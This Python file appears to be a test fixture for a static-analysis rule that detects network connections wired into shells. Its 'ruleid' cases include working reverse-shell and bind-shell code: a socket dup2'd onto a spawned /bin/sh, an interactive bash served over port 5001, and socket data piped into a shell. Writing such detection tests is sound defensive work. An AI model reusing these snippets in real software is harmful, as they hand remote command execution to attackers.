import os
import pty
import socket
import subprocess


class Tunnel:
    def __init__(self, host):
        self.s = socket.create_connection((host, 8443))

    def serve(self):
        for n in range(3):
            # ruleid: python-connection-becomes-shell-stream
            os.dup2(self.s.fileno(), n)
        pty.spawn("/bin/sh")


def listen():
    l = socket.socket()
    l.bind(("", 5001))
    l.listen(1)
    c, _ = l.accept()
    # ruleid: python-connection-becomes-shell-stream
    subprocess.call(["/bin/bash", "-i"], stdin=c, stdout=c, stderr=c)


def pump(conn):
    p = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE)
    while True:
        data = conn.recv(100)
        # ruleid: python-connection-becomes-shell-stream
        p.stdin.write(data)


def log():
    f = os.open("/var/log/x", os.O_WRONLY)
    # ok: python-connection-becomes-shell-stream
    os.dup2(f, 1)


def run():
    # ok: python-connection-becomes-shell-stream
    subprocess.call(["/bin/sh", "-c", "df"], stdin=subprocess.DEVNULL)


def feed(conn):
    p = subprocess.Popen(["/usr/bin/sort"], stdin=subprocess.PIPE)
    # ok: python-connection-becomes-shell-stream
    p.stdin.write(conn.recv(10))


def attend(address, program):
    link = socket.create_connection(address)
    tool = [program, "-l"]
    # ruleid: python-connection-becomes-shell-stream
    subprocess.run(tool, stdin=link, stdout=link, stderr=subprocess.STDOUT)


def sort_lines(address):
    link = socket.create_connection(address)
    # ok: python-connection-becomes-shell-stream
    subprocess.run(["/usr/bin/sort"], stdin=link)
